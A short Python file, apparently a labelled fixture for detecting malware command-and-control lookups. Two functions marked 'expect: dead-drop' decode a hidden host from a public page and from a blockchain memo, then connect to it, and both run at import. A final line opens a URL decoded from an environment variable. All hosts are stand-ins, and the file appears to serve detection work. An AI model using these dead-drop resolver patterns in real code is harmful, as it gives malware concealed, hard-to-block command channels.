import base64
import os
import re
import socket
import urllib.request

import requests


def board():
    page = requests.get("https://people.board.example/u/notes").text
    found = re.search(r"\[\[(.+?)\]\]", page)
    host = base64.b64decode(found.group(1)).decode()
    return requests.get(f"https://{host}/next")  # expect: dead-drop


def line():
    answer = requests.post("https://rpc.chain.example", json={"method": "getTransaction"}).json()
    place = bytes.fromhex(answer["result"]["memo"]).decode()
    return socket.create_connection((place, 443))  # expect: dead-drop


board()
line()


def upload(text):
    link = requests.get("https://api.acme.example/session").json()["upload"]
    return requests.put(link, data=text)


urllib.request.urlopen(base64.b64decode(os.environ["ACME_CLOUD_ID"]).decode())
